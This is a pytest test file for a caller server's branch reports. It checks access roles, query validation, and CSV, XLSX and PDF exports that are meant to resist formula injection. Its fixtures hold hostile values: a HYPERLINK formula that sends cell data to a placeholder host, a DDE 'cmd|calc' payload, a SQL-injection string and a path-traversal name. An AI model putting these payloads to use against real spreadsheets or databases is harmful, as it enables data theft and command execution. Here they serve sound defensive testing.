"""Reports over HTTP: who may see them, what makes no sense, and files in which nothing becomes a formula."""

import csv
import json
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from io import BytesIO, StringIO
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from caller_server.contract.reports import ReportView
from caller_server.usecases.accounts import Role
from caller_server.web.exports.sheet import file_name, safe_text
from tests.storage.report_rows import MONDAY, TUESDAY, add_quota_gone, add_stages, called_off, missed, passed_on
from tests.web.site import PASSWORD, Caller, Site
from tests.web.site import site as make_site

DAYS = "from=2026-11-23&to=2026-11-24"
REPORT = f"branches/bontang/report?{DAYS}"
LONG = "Pengajuan klaim Jaminan Kecelakaan Kerja bagi pekerja magang"  # 60 letters
HOSTILE = "=HYPERLINK(\"http://x/?\"&A1;'klik')"
BRANCH = {
    "name": '@SUM(1+1)*cmd|"calc"!A0',
    "services": [
        {"code": "A", "name": {"id": HOSTILE, "en": "-2+3, and more"}},
        {"code": "K", "name": {"id": LONG}},
        {"code": "D", "name": {"id": "Pendaftaran;=1+1"}, "quota": {"monday": 2}},
    ],
    "counters": [
        {"code": "bontang-1", "label": "1", "services": ["A", "K", "D"]},
        {"code": "bontang-2", "label": "2", "services": ["A"]},
    ],
}


def fill(site: Site) -> None:
    add_stages(
        site.hall.database,
        passed_on("handed_on", ticket="t1", service="K", officer="ana", waiting_s=60, service_s=120),
        {"ticket": "t1", "service": "A", "officer": "bo", "total_s": 3000},
        {"service": "D", "class": "priority", "day": TUESDAY, "hour": 13},
        missed(officer="+ana", counter="bontang-2"),
        called_off(service="K"),
    )
    add_quota_gone(site.hall.database, MONDAY, "D", datetime(2026, 11, 23, 1, 20, tzinfo=UTC))


@pytest.fixture(params=["sqlite", "postgresql"])
def site(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Site]:
    with make_site(tmp_path, kind=request.param, branch=BRANCH) as made:
        made.accounts.add_user("vera", Role.VIEWER, "bontang", PASSWORD)
        fill(made)
        yield made


def report(site: Site, query: str = "", who: str = "sari") -> ReportView:
    answer = site.staff(who).get(f"{REPORT}{query}")
    assert answer.status_code == 200, answer.get_data(as_text=True)
    return ReportView.model_validate_json(answer.get_data())


def test_those_who_look_after_the_branch_see_reports_and_nobody_else(site: Site) -> None:
    for path in (REPORT, *(f"branches/bontang/report.{ending}?{DAYS}" for ending in ("csv", "xlsx", "pdf")), "/reports"):
        status = {who: site.staff(who).get(path).status_code for who in ("rina", "gita", "sari", "budi", "vera")}
        assert status == {"rina": 403, "gita": 403, "sari": 200, "budi": 200, "vera": 200}
        assert site.kiosk().get(path).status_code == 403
    assert site.nobody().get(REPORT).status_code == 401
    assert "password" in site.nobody().get("/reports").get_data(as_text=True)  # the form to sign in, and nothing else


def test_the_branch_of_others_is_not_shown(site: Site) -> None:
    assert site.staff("sari").get(f"branches/samarinda/report?{DAYS}").status_code == 403
    assert site.staff("sari").get("/reports?branch=samarinda").status_code == 403
    assert site.staff("budi").get(f"branches/samarinda/report?{DAYS}").get_json()["totals"]["tickets"] == 0


def test_single_officers_are_told_apart_for_those_who_lead_them(site: Site) -> None:
    for query in ("&by=officer", "&officer=ana"):
        for ending in ("", ".csv", ".xlsx", ".pdf"):
            path = f"branches/bontang/report{ending}?{DAYS}{query}"
            assert (site.staff("vera").get(path).status_code, site.staff("sari").get(path).status_code) == (403, 200)
    refused = site.staff("vera").get(f"{REPORT}&by=officer&lang=id").get_json()
    assert refused["detail"] == "Angka per petugas hanya untuk penyelia dan administrator."


def test_a_report_is_told_as_the_contract_has_it(site: Site) -> None:
    told = json.loads(site.staff("sari").get(f"{REPORT}&by=hour").get_data())

    assert (told["from"], told["to"], told["by"], told["branch"]) == ("2026-11-23", "2026-11-24", "hour", "bontang")
    assert [(row["key"], row["label"]) for row in told["rows"]] == [("09", "09.00–10.00"), ("13", "13.00–14.00")]
    assert told["totals"]["waiting"] == {"median_s": 600, "p90_s": 600, "p95_s": 600}
    assert (told["totals"]["within_target"], told["totals"]["hit_rate"]) == (0.5, None)
    assert told["totals"]["quota_gone"] == {"count": 1, "earliest": "09.20", "median": "09.20"}


@pytest.mark.parametrize(
    ("query", "labels"),
    [
        ("&lang=id", ["Sen 23 Nov 2026", "Sel 24 Nov 2026"]),
        ("&lang=en", ["Mon 23 Nov 2026", "Tue 24 Nov 2026"]),
        ("&by=counter&lang=id", ["Loket 1", "Loket 2", "Tanpa loket"]),
        ("&by=officer&lang=en", ["+ana", "ana", "bo", "No officer"]),
    ],
)
def test_labels_are_in_the_language_asked_for(site: Site, query: str, labels: list[str]) -> None:
    assert sorted(row.label for row in report(site, query).rows) == sorted(labels)


def test_without_days_a_report_is_about_today(site: Site) -> None:
    found = ReportView.model_validate_json(site.staff("sari").get("branches/bontang/report").get_data())

    assert (found.from_, found.to, found.by) == (MONDAY, MONDAY, "day")
    assert found.totals.tickets == 3


@pytest.mark.parametrize(
    ("query", "status", "sentence"),
    [
        ("from=2026-11-24&to=2026-11-23", 422, "Hari pertama laporan harus sebelum hari terakhirnya."),
        ("from=2020-01-01&to=2026-11-23", 422, "Laporan memuat paling banyak lima tahun."),
        ("from=0001-01-01&to=9999-12-31", 422, "Laporan memuat paling banyak lima tahun."),
        ("from=yesterday", 422, "Isian permintaan ini tidak lengkap atau tidak tepat. Periksa, lalu coba lagi."),
        ("to=2026-02-30", 422, "Isian permintaan ini tidak lengkap atau tidak tepat. Periksa, lalu coba lagi."),
        ("by=weather", 422, "Isian permintaan ini tidak lengkap atau tidak tepat. Periksa, lalu coba lagi."),
        ("by=ticket_id", 422, "Isian permintaan ini tidak lengkap atau tidak tepat. Periksa, lalu coba lagi."),
        ("service=Z", 404, "Layanan Z tidak ada di kantor cabang ini."),
        ("counter=samarinda-1", 404, "Loket atau bilik samarinda-1 tidak ada."),
        ("officer=nobody", 404, "Petugas nobody belum pernah melayani di kantor cabang ini."),
        ("service=A'%20OR%201=1--", 404, "Alamat ini tidak ada."),
        ("officer=a%00b", 404, "Alamat ini tidak ada."),
    ],
)
def test_what_makes_no_sense_is_refused_with_a_sentence(site: Site, query: str, status: int, sentence: str) -> None:
    for ending in ("", ".csv", ".pdf"):
        answer = site.staff("sari").get(f"branches/bontang/report{ending}?lang=id&{query}")

        assert (answer.status_code, answer.get_json()["detail"]) == (status, sentence)


# --- files ---


def download(site: Site, ending: str, query: str = "&by=service&lang=id") -> bytes:
    answer = site.staff("sari").get(f"branches/bontang/report.{ending}?{DAYS}{query}")
    assert answer.status_code == 200, answer.get_data(as_text=True)
    assert answer.headers["Cache-Control"] == "no-store"
    return bytes(answer.get_data())


def as_table(content: bytes) -> list[list[str]]:
    return list(csv.reader(StringIO(content.decode("utf-8-sig"), newline="")))


def can_be_a_formula(text: object) -> bool:
    """What a spreadsheet could take for one, read as a cell of its own or split at another separator."""
    cells = [part.strip() for sign in ",;|\t" for part in str(text).split(sign)] + [str(text)]
    return any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")) for cell in cells)


def test_the_csv_is_quoted_as_rfc_4180_has_it_and_says_its_encoding(site: Site) -> None:
    content = download(site, "csv")

    assert content.startswith(b"\xef\xbb\xbf")
    assert content.endswith(b"\r\n")
    table = as_table(content)
    assert table[0][:4] == ["Kode layanan", "Layanan", "Semua", "Terlayani"]
    assert table[0][11] == "Menunggu, Median (dtk)"
    assert {len(row) for row in table} == {len(table[0])}
    assert [row[0] for row in table[1:]] == ["A", "K", "D", ""]


def test_the_csv_has_the_numbers_of_the_report(site: Site) -> None:
    view, table = report(site, "&lang=id"), as_table(download(site, "csv", "&lang=id"))

    assert [row[0] for row in table[1:]] == ["2026-11-23", "2026-11-24", ""]
    for row, told in zip(table[1:], [*view.rows, view.totals], strict=True):
        assert row[2:5] == [str(told.tickets), str(told.served), str(told.no_show)]
        assert row[11] == str(told.waiting.median_s)
    assert table[1][-5:] == ["0.0000", "1", "09.20", "09.20", ""]


@pytest.mark.parametrize("by", ["day", "hour", "service", "counter", "officer"])
def test_no_cell_of_a_csv_can_become_a_formula(site: Site, by: str) -> None:
    table = as_table(download(site, "csv", f"&by={by}&lang=id"))

    assert [cell for row in table for cell in row if can_be_a_formula(cell)] == []
    if by == "service":
        assert table[1][1] == f"A {HOSTILE}"
        assert table[3][1] == "D Pendaftaran;'=1+1"


@pytest.mark.parametrize("by", ["day", "hour", "service", "counter", "officer"])
def test_no_cell_of_a_workbook_is_or_can_become_a_formula(site: Site, by: str) -> None:
    book = load_workbook(BytesIO(download(site, "xlsx", f"&by={by}&lang=id")))

    cells = [cell for sheet in book for row in sheet for cell in row if cell.value is not None]
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
    texts = [cell for cell in cells if isinstance(cell.value, str)]
    assert [cell.value for cell in texts if can_be_a_formula(cell.value)] == []
    assert all(cell.quotePrefix for cell in texts)
    assert not can_be_a_formula(book.properties.title)


def test_the_workbook_has_real_numbers_and_says_what_they_mean(site: Site) -> None:
    book = load_workbook(BytesIO(download(site, "xlsx", "&lang=id")))

    assert book.sheetnames == ["Laporan", "Keterangan"]
    heading, monday, *_ = [list(row) for row in book["Laporan"]]
    where = {cell.value: place for place, cell in enumerate(heading)}
    assert monday[0].value == datetime(2026, 11, 23)  # noqa: DTZ001  a spreadsheet's days have no zone
    assert monday[where["Semua"]].value == 3
    median = monday[where["Menunggu, Median"]]
    assert (median.number_format, median.value.total_seconds()) == ("[h]:mm:ss", 600)
    assert monday[where["Dalam target"]].number_format == "0.0%"
    assert monday[where["Kuota habis, Paling awal"]].value.strftime("%H.%M") == "09.20"
    told = [cell.value for row in book["Keterangan"] for cell in row if cell.value]
    assert told[1:5] == ["Hari", "23 November 2026 – 24 November 2026", "Dirinci per", "Hari"]
    assert any("40 menit" in note for note in told)


def test_the_files_speak_the_language_asked_for(site: Site) -> None:
    assert load_workbook(BytesIO(download(site, "xlsx", "&lang=en"))).sheetnames == ["Report", "Notes"]
    assert as_table(download(site, "csv", "&lang=en"))[-1][1] == "All together"
    assert "Page 1 of 1" in text_of(download(site, "pdf", "&lang=en"))


def text_of(content: bytes) -> str:
    return " ".join(" ".join(page.extract_text() for page in PdfReader(BytesIO(content)).pages).split())


def test_the_pdf_is_a4_across_with_the_long_name_whole_and_no_links(site: Site) -> None:
    content = download(site, "pdf")
    page = PdfReader(BytesIO(content)).pages[0]

    assert [round(float(side) / 72 * 25.4) for side in page.mediabox[2:]] == [297, 210]
    assert LONG in text_of(content)
    assert "Halaman 1 dari 1" in text_of(content)
    assert "/Annots" not in page
    assert "belum ada" in text_of(content)


def test_a_long_pdf_repeats_its_heading_and_numbers_its_pages(site: Site) -> None:
    days = [datetime(2026, month, day).date() for month in (9, 10) for day in range(1, 31)]  # noqa: DTZ001
    add_stages(site.hall.database, *({"day": day} for day in days))

    answer = site.staff("sari").get("branches/bontang/report.pdf?from=2026-09-01&to=2026-11-24&lang=id")
    pages = [page.extract_text() for page in PdfReader(BytesIO(answer.get_data())).pages]

    assert len(pages) == 3
    assert all("Terlayani" in text and f"Halaman {number} dari 3" in text for number, text in enumerate(pages[:2], 1))
    found = " ".join("".join(pages).split())
    assert [found.count(day) for day in ("Sel 1 Sep 2026", "Rab 30 Sep 2026", "Kam 1 Okt 2026", "Jum 30 Okt 2026")] == [
        1,
        1,
        1,
        1,
    ]


def test_files_have_names_that_need_no_quoting(site: Site) -> None:
    for ending, mimetype in (
        ("csv", "text/csv"),
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("pdf", "application/pdf"),
    ):
        answer = site.staff("sari").get(f"branches/bontang/report.{ending}?{DAYS}&by=service&lang=id")
        name = f"laporan-bontang-2026-11-23-2026-11-24-service.{ending}"
        assert answer.headers["Content-Disposition"] == f'attachment; filename="{name}"'
        assert (answer.mimetype, answer.headers["X-Content-Type-Options"]) == (mimetype, "nosniff")


@pytest.mark.parametrize("ending", ["csv", "xlsx", "pdf"])
def test_an_empty_report_is_a_file_as_well(site: Site, ending: str) -> None:
    answer = site.staff("sari").get(f"branches/bontang/report.{ending}?from=2020-01-01&to=2020-01-02&lang=id")

    assert answer.status_code == 200
    assert len(answer.get_data()) > 200


@pytest.mark.parametrize("query", ["", ".csv", ".xlsx", ".pdf"])
def test_counting_and_writing_are_work_that_is_done_apart(site: Site, monkeypatch: pytest.MonkeyPatch, query: str) -> None:
    done: list[str] = []
    web = site.app.extensions["lapak"]

    def apart(work: Callable[[], Any]) -> Any:
        done.append("apart")
        return work()

    monkeypatch.setattr(type(web), "__setattr__", object.__setattr__)
    monkeypatch.setattr(web, "apart", apart)
    site.staff("sari").get(f"branches/bontang/report{query}?{DAYS}")

    assert done == ["apart"]


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        (" \t=1+1", "'=1+1"),
        ("\r@x", "'@x"),
        ("a;=1", "a;'=1"),
        ("a, -b", "a, '-b"),
        ("＝1", "'＝1"),
        ("\u200b=1", "'=1"),
        ("Loket 3", "Loket 3"),
        ("a-b = c", "a-b = c"),
        ("two\nlines\x00", "two lines"),
        ("\ud800x", "x"),
        ("", ""),
    ],
)
def test_text_stays_text(text: str, safe: str) -> None:
    assert safe_text(text) == safe


def test_a_file_name_has_nothing_in_it_that_means_something() -> None:
    assert file_name("laporan", "../etc", 'a"b;c', ending="csv") == "laporan-etc-a-b-c.csv"


# --- the page ---


def given(caller: Caller, query: str = "") -> dict[str, Any]:
    text = caller.get(f"/reports{query}").get_data(as_text=True)
    return dict(json.loads(text.split('id="page">')[1].split("</script>")[0]))


def test_the_page_is_given_what_can_be_chosen(site: Site) -> None:
    found = given(site.browser("sari"), "?lang=id")

    assert (found["branch"], found["today"], found["time_zone"]) == ("bontang", "2026-11-23", "Asia/Makassar")
    assert [service["code"] for service in found["services"]] == ["A", "K", "D"]
    assert found["counters"][0] == {"code": "bontang-1", "label": "1", "kind": "desk"}
    assert (found["may_see_officers"], found["branches"]) == (True, [])
    assert {"rina", "bo", "sari"} <= set(found["officers"])
    assert not {"ema", "gita", "vera"} & set(found["officers"])
    assert found["texts"]["page.title"] == "Laporan"


def test_a_viewer_is_given_no_officers_and_an_administrator_of_all_the_branches(site: Site) -> None:
    vera, budi = given(site.browser("vera")), given(site.browser("budi"), "?branch=samarinda")

    assert (vera["may_see_officers"], vera["officers"]) == (False, [])
    assert budi["branch"] == "samarinda"
    assert [branch["code"] for branch in budi["branches"]] == ["bontang", "samarinda"]
